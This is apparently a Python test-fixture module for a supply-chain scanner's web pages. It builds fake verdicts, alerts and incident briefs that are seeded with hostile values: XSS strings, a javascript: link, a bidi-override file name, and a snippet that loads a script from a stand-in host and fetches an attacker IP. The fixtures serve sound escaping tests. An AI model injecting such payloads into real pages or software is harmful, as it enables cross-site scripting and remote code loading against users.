"""Rows for the page tests: a read model that serves what the test built, hostile values included.

The pages only see :class:`~chainwatch.serve.queries.ReadModel`'s rows and documents, so these
tests build the rows themselves and check what the browser gets. Every value a package author
controls carries markup, a ``javascript:`` link or a bidi override (U+202E).
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any

from chainwatch.serve.queries import (
    AlertRow,
    DecisionRow,
    DeliveryRow,
    EnvironmentRow,
    ExposureRow,
    IncidentRow,
    LabelRow,
    Overview,
    Page,
    ReadModel,
    SourceRow,
    VerdictRow,
)

#: markup that must arrive as text, never as an element or attribute
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(2)>'
JS_LINK = "javascript:alert(3)"
RLO = "lib/\u202etxt.exe"  # shows as lib/exe.txt in a bidi-aware renderer
SNIPPET = '</code></pre><script src="http://evil.invalid/x.js"></script>fetch("http://192.0.2.7/")'

HOSTILE_NAME = f"evil{SCRIPT}"
HOSTILE_PATH = f"{RLO}{IMG}"


def scan_doc(name: str = HOSTILE_NAME, version: str = "1.0.1", findings: int = 2) -> dict[str, Any]:
    """A ``chainwatch.scan/1`` document as the scanner writes it, with hostile values."""
    base = [{"rule": "install-script-network", "severity": "high", "technique": "T1105",
             "capability": "network", "message": f"fetches a payload {IMG}",
             "file": HOSTILE_PATH, "line": 3, "snippet": SNIPPET, "reference": JS_LINK,
             "preexisting": False, "install_time": True},
            {"rule": "obfuscated-code", "severity": "medium", "technique": "T1027",
             "capability": "obfuscation", "message": "hex-encoded strings",
             "file": "index.js", "line": 12, "snippet": "var _0x1 = '\\x68';",
             "reference": "https://attack.mitre.org/techniques/T1027/",
             "preexisting": False, "install_time": False}]
    return {
        "schema": "chainwatch.scan/1", "package": name, "version": version, "baseline": "1.0.0",
        "verdict": "malicious", "score": 87, "explanation": f"new install script {SCRIPT}",
        "source": JS_LINK, "integrity": "sha512-" + "A" * 86 + "==", "origin": "registry",
        "findings": (base * (findings // 2 + 1))[:findings],
        "capabilities": {"added": ["network", "child_process"], "removed": ["fs"],
                         "present": ["network", "child_process"]},
        "metadata_signals": [{"rule": "maintainer-change", "severity": "medium",
                              "message": f"new publisher {SCRIPT}"}],
        "publisher": f"mallory{IMG}", "published": "2025-09-08T13:16:00Z",
        "payload": {"fingerprints": [], "indicators": {}},
        "changes": {"files": {"added": [HOSTILE_PATH, "setup.js"], "changed": ["index.js"],
                              "removed": [], "unchanged": 4},
                    "dependencies": {"added": {HOSTILE_NAME: "^1.0.0"}, "removed": {}},
                    "scripts": {"added": {"postinstall": f"node setup.js {SCRIPT}"},
                                "changed": {}}},
    }


def brief_doc(incident_id: str = "inc-1") -> dict[str, Any]:
    return {
        "schema": "chainwatch.brief/1", "incident": incident_id, "title": f"Takeover {SCRIPT}",
        "level": "malicious", "generated_at": "2025-09-08T15:00:00+00:00",
        "bluf": {"text": f"We assess with high confidence {IMG}", "refs": [f"ref {SCRIPT}"]},
        "hypotheses": {"winner": "H1", "confidence": "high", "why": "x",
                       "ranking": [{"id": "H1", "title": "Account takeover", "inconsistent": 0,
                                    "consistent": 4}], "evidence": []},
        "implications": [{"text": "Anyone who installed it may have run the code.", "refs": []}],
        "recommendations": [{"text": "Pin every affected package.", "refs": ["H1"]}],
        "red_flags": [], "assumptions": [], "bias_check": [],
        "entities": {"accounts": ["mallory"], "packages": [
            {"package": HOSTILE_NAME, "version": "1.0.1", "level": "malicious",
             "integrity": None, "published": "2025-09-08T13:16:00Z", "publisher": "mallory"}]},
        "indicators": {"packages": [], "hosts": [f"c2{IMG}.invalid"]},
        "timeline": [{"time": "2025-09-08T13:16:00Z", "event": f"published {SCRIPT}", "ref": "x"}],
    }


VERDICT_ROWS = [
    VerdictRow(key="sha512-" + "A" * 86 + "==", package=HOSTILE_NAME, version="1.0.1",
               integrity="sha512-" + "A" * 86 + "==", level="malicious", score=87,
               baseline="1.0.0", top_rule="install-script-network", top_message=IMG,
               scanned_at="2025-09-08T13:20:00Z"),
    VerdictRow(key="chalk@5.6.1", package="chalk", version="5.6.1", integrity=None,
               level="suspicious", score=40, baseline="5.6.0", top_rule="obfuscated-code",
               top_message="hex strings", scanned_at="2025-09-08T13:18:00Z"),
    VerdictRow(key="@scope/pkg@2.0.0", package="@scope/pkg", version="2.0.0", integrity=None,
               level="benign", score=0, baseline=None, top_rule=None, top_message=None,
               scanned_at="2025-09-08T13:10:00Z"),
]

ALERTS = [AlertRow(id=f"release:{HOSTILE_NAME}@1.0.1", kind="release", created_at=1757337600.0,
                   payload={"package": HOSTILE_NAME, "version": "1.0.1", "verdict": "malicious",
                            "integrity": "sha512-" + "A" * 86 + "==",
                            "action": f"pin it {SCRIPT}"},
                   deliveries=[DeliveryRow("slack:…a1b2", "sent", 1, 1757337601.0, None),
                               DeliveryRow("webhook:…ff00", "failed", 3, None, f"HTTP 500 {IMG}")]),
          AlertRow(id="burst:mallory:1", kind="burst", created_at=1757337500.0,
                   payload={"publisher": f"mallory{IMG}", "verdict": "suspicious"})]


class RowsModel(ReadModel):
    """A read model over rows the test built (no database)."""

    def __init__(self, verdicts: list[VerdictRow] | None = None,
                 docs: dict[str, dict[str, Any]] | None = None) -> None:
        self.rows = VERDICT_ROWS if verdicts is None else verdicts
        self.docs = docs if docs is not None else {VERDICT_ROWS[0].key: scan_doc()}
        self.calls: list[tuple[str, dict[str, Any]]] = []

    def verdicts(self, *, package: str | None = None, level: str | None = None,
                 since: str | None = None, limit: int = 50,
                 cursor: str | None = None) -> Page[VerdictRow]:
        self.calls.append(("verdicts", {"package": package, "level": level, "since": since,
                                        "limit": limit, "cursor": cursor}))
        if since is not None and len(since) != 10:
            raise ValueError(f"since must be a date (YYYY-MM-DD), not {since!r}")
        rows = [r for r in self.rows if (package is None or r.package == package)
                and (level is None or r.level == level)]
        start = int(cursor) if cursor else 0
        more = start + limit < len(rows)
        return Page(rows[start:start + limit], str(start + limit) if more else None)

    def verdict(self, key: str) -> dict[str, Any] | None:
        return self.docs.get(key)

    def alerts(self, *, limit: int = 50, cursor: str | None = None) -> Page[AlertRow]:
        return Page(ALERTS[:limit], None)

    def incidents(self) -> list[IncidentRow]:
        return [IncidentRow(id="inc-1", title=f"Takeover {SCRIPT}", level="malicious", size=2,
                            first_published="2025-09-08T13:16:00Z",
                            last_published="2025-09-08T13:30:00Z",
                            hypothesis="Targeted account takeover for financial theft",
                            confidence="high", updated_at="2025-09-08T15:00:00Z")]

    def incident(self, incident_id: str) -> dict[str, Any] | None:
        return brief_doc(incident_id) if incident_id == "inc-1" else None

    def incident_html(self, incident_id: str) -> str | None:
        return None

    def exposure(self, spec: str) -> list[ExposureRow]:
        if "@" not in spec.lstrip("@"):
            raise ValueError(f"{spec!r} is not name@version or name@range")
        name = spec.rsplit("@", 1)[0]
        if name != "chalk":
            return []
        return [ExposureRow(label=f"web-app{SCRIPT}", kind="npm", source=HOSTILE_PATH,
                            name="chalk", version="5.6.1", dev=False,
                            path=f"web-app > {HOSTILE_NAME} > chalk",
                            first_seen="2025-09-08T14:00:00Z", last_seen="2025-09-09T09:00:00Z")]

    def environments(self, *, limit: int = 50, cursor: str | None = None) -> Page[EnvironmentRow]:
        return Page([EnvironmentRow(pk=1, label=f"web-app{SCRIPT}", kind="npm",
                                    source=HOSTILE_PATH, recorded_at="2025-09-08T14:00:00Z",
                                    packages=812)], None)

    def environment_labels(self, *, limit: int = 50,
                           cursor: str | None = None) -> Page[LabelRow]:
        return Page([LabelRow(label=f"web-app{SCRIPT}", sources=[SourceRow(
            kind="npm", source=HOSTILE_PATH, packages=812, recorded_at="2025-09-08T14:00:00Z")],
            packages=812, recordings=1, last_recorded="2025-09-08T14:00:00Z", last_pk=1)], None)

    def decisions(self, *, action: str | None = None, limit: int = 50,
                  cursor: str | None = None) -> Page[DecisionRow]:
        rows = [DecisionRow(pk=1, time="2025-09-08T14:05:00Z", origin="proxy",
                            package=HOSTILE_NAME, version="1.0.1", action="block",
                            rule="verdict", reason=f"malicious {SCRIPT}", source=HOSTILE_PATH),
                DecisionRow(pk=2, time="2025-09-08T14:06:00Z", origin="check", package="chalk",
                            version="5.6.1", action="warn", rule="min-age",
                            reason="published 2 h ago", source="package-lock.json")]
        return Page([r for r in rows if action is None or r.action == action][:limit], None)

    def overview(self, days: int = 14) -> Overview:
        per_day = [(f"2025-09-{d:02d}", {"benign": d, "suspicious": d % 3, "malicious": d % 2})
                   for d in range(1, days + 1)]
        latency = [(f"2025-09-{d:02d}", None if d == 3 else 60.0 * d) for d in range(1, days + 1)]
        return Overview(counts={"benign": 1, "suspicious": 1, "malicious": 1, "alerts": 2,
                                "incidents": 1, "environments": 1, "blocked": 1},
                        verdicts_per_day=per_day, latency_per_day=latency,
                        latest_alerts=ALERTS, latest_flagged=VERDICT_ROWS[:2])


# ---- a real database, filled the way the scanner, the watcher, inventory and the gate do ------

def _doc_for(name: str, version: str, level: str, baseline: str | None,
             findings: list[dict[str, Any]], published: str, publisher: str,
             added_caps: list[str]) -> dict[str, Any]:
    return {
        "schema": "chainwatch.scan/1", "package": name, "version": version, "baseline": baseline,
        "verdict": level, "score": {"malicious": 92, "suspicious": 45}.get(level, 0),
        "explanation": (f"{name}@{version} adds {', '.join(added_caps)} that {baseline} did not "
                        "have" if added_caps else "no new capability"),
        "source": f"https://registry.npmjs.org/{name}/-/{name.split('/')[-1]}-{version}.tgz",
        "integrity": f"sha512-{name}-{version}", "origin": "registry", "findings": findings,
        "capabilities": {"added": added_caps, "removed": [], "present": ["fs", *added_caps]},
        "metadata_signals": [], "publisher": publisher, "published": published,
        "payload": {"fingerprints": [], "indicators": {}},
        "changes": {"files": {"added": [], "changed": ["index.js"], "removed": [],
                              "unchanged": 11},
                    "dependencies": {"added": {}, "removed": {}},
                    "scripts": {"added": {}, "changed": {}}} if baseline else None,
    }


CLIPPER = {"rule": "wallet-address-swap", "severity": "high", "technique": "T1565.002",
           "capability": "crypto-wallet", "message": "replaces wallet addresses in responses",
           "file": "index.js", "line": 1, "reference": "https://attack.mitre.org/techniques/T1565/002/",
           "snippet": "const _0x112fa8=_0x180f;(function(_0x13c8b9,_0x35f660){...",
           "preexisting": False, "install_time": False}


def fill(engine: Any, now: datetime | None = None) -> dict[str, str]:
    """Verdicts, watch history, alerts with deliveries, environments and gate decisions: the
    September 2025 wave replayed in the last days, a hostile release among them. Returns the
    keys the tests look for."""
    from sqlalchemy import insert

    from chainwatch.fleet import environments, holdings
    from chainwatch.gate.decisions import decisions
    from chainwatch.verdicts import verdicts
    from chainwatch.watch.state import alerts, deliveries, versions

    now = (now or datetime.now(UTC)).replace(microsecond=0)
    # the wave is today (the overview's "today" counts it), whatever the time of day
    wave = max(now - timedelta(hours=5), now.replace(hour=0, minute=0, second=0))
    flagged = [("chalk", "5.6.1", "5.6.0", "qix"), ("debug", "4.4.2", "4.4.1", "qix"),
               ("ansi-styles", "6.2.2", "6.2.1", "qix"), ("strip-ansi", "7.1.1", "7.1.0", "qix")]
    rows: list[dict[str, Any]] = []
    docs: list[tuple[str, dict[str, Any]]] = []
    for i, (name, version, base, who) in enumerate(flagged):
        published = wave + timedelta(minutes=3 * i)
        doc = _doc_for(name, version, "malicious", base, [CLIPPER], published.isoformat(), who,
                       ["crypto-wallet", "network"])
        docs.append((published.isoformat(), doc))
    hostile = scan_doc()
    hostile["published"] = (wave + timedelta(minutes=20)).isoformat()
    hostile["integrity"] = "sha512-hostile"
    docs.append((hostile["published"], hostile))
    for day in range(13, 0, -1):  # two weeks of ordinary traffic
        for j in range(3 + day % 4):
            at = now - timedelta(days=day, minutes=7 * j)
            docs.append((at.isoformat(), _doc_for(f"lib-{day}-{j}", "1.0.0", "benign", None, [],
                                                  at.isoformat(), "maintainer", [])))
        if day % 5 == 0:
            at = now - timedelta(days=day, hours=2)
            docs.append((at.isoformat(), _doc_for(
                f"odd-{day}", "2.0.0", "suspicious", "1.9.0",
                [{**CLIPPER, "rule": "obfuscated-code", "severity": "medium"}],
                at.isoformat(), "someone", ["obfuscation"])))
    for published, doc in docs:
        scanned = datetime.fromisoformat(published) + timedelta(seconds=95)
        rows.append({"key": doc["integrity"], "package": doc["package"], "version": doc["version"],
                     "integrity": doc["integrity"], "level": doc["verdict"], "score": doc["score"],
                     "baseline": doc["baseline"], "explanation": doc["explanation"],
                     "top_rule": (doc["findings"] or [{}])[0].get("rule"),
                     "top_message": (doc["findings"] or [{}])[0].get("message"),
                     "scanned_at": scanned.isoformat(timespec="seconds"), "elapsed_s": 0.2,
                     "document": json.dumps(doc)})
    with engine.begin() as conn:
        conn.execute(insert(verdicts), rows)
        conn.execute(insert(versions), [
            {"name": doc["package"], "version": doc["version"], "published": published,
             "publisher": doc["publisher"], "seen_at": datetime.fromisoformat(published).timestamp(),
             "status": "done", "attempts": 1, "level": doc["verdict"],
             "scanned_at": datetime.fromisoformat(published).timestamp() + 60 + 30 * (k % 5)}
            for k, (published, doc) in enumerate(docs)])
        for i, (name, version, base, _) in enumerate(flagged):
            alert_id = f"release:{name}@{version}"
            conn.execute(insert(alerts).values(
                id=alert_id, kind="release", created_at=(wave + timedelta(minutes=3 * i + 2)).timestamp(),
                payload=json.dumps({"schema": "chainwatch.alert/1", "kind": "release",
                                    "package": name, "version": version, "verdict": "malicious",
                                    "integrity": f"sha512-{name}-{version}",
                                    "action": f"pin {name} to {base} and block {name}@{version}"})))
            conn.execute(insert(deliveries), [
                {"alert_id": alert_id, "sink": "slack:…3f9a", "status": "sent", "attempts": 1,
                 "next_attempt": 0.0, "sent_at": wave.timestamp() + 200, "last_error": None},
                {"alert_id": alert_id, "sink": "webhook:…77c1", "status": "failed" if i == 0
                 else "sent", "attempts": 3 if i == 0 else 1, "next_attempt": 0.0,
                 "sent_at": None if i == 0 else wave.timestamp() + 210,
                 "last_error": "HTTP 503 from the receiver" if i == 0 else None}])
        conn.execute(insert(alerts).values(
            id="release:hostile", kind="release", created_at=(wave + timedelta(minutes=21)).timestamp(),
            payload=json.dumps({"package": HOSTILE_NAME, "version": "1.0.1", "verdict": "malicious",
                                "integrity": "sha512-hostile", "action": f"pin it {SCRIPT}"})))
        envs = [("web-shop", "package-lock", "web-shop/package-lock.json",
                 [("chalk", "5.6.1", "web-shop > @babel/core > chalk"),
                  ("debug", "4.4.1", "web-shop > debug")]),
                ("billing-api", "pnpm-lock", "billing-api/pnpm-lock.yaml",
                 [("debug", "4.4.2", "billing-api > express > debug"),
                  ("chalk", "5.6.0", "billing-api > chalk")]),
                (f"ci{SCRIPT}", "package-lock", HOSTILE_PATH,
                 [("chalk", "5.6.1", f"ci > {HOSTILE_NAME} > chalk")])]
        for k, (label, kind, source, held) in enumerate(envs):
            pk = conn.execute(insert(environments).values(
                label=label, kind=kind, source=source,
                recorded_at=(wave + timedelta(minutes=40 + k)).isoformat())).inserted_primary_key
            assert pk is not None
            conn.execute(insert(holdings), [{"environment": pk[0], "name": n, "version": v,
                                             "dev": False, "path": p} for n, v, p in held])
        conn.execute(insert(decisions), [
            {"time": (wave + timedelta(minutes=50 + i)).isoformat(), "origin": origin,
             "package": name, "version": version, "action": action, "rule": rule,
             "reason": reason, "source": source}
            for i, (origin, name, version, action, rule, reason, source) in enumerate([
                ("proxy", "chalk", "5.6.1", "block", "verdict",
                 "malicious: replaces wallet addresses in responses", "npm/11.6.0 node/v20"),
                ("check", "debug", "4.4.2", "block", "known-bad", "GHSA-8mgj-vmr8-frr6",
                 "billing-api/pnpm-lock.yaml"),
                ("proxy", "left-pad", "1.3.1", "warn", "min-age", "published 3 h ago (< 48 h)",
                 "npm/11.6.0 node/v20"),
                ("check", HOSTILE_NAME, "1.0.1", "block", "verdict", f"malicious {SCRIPT}",
                 HOSTILE_PATH)])])
    return {"malicious": "sha512-chalk-5.6.1", "hostile": "sha512-hostile"}
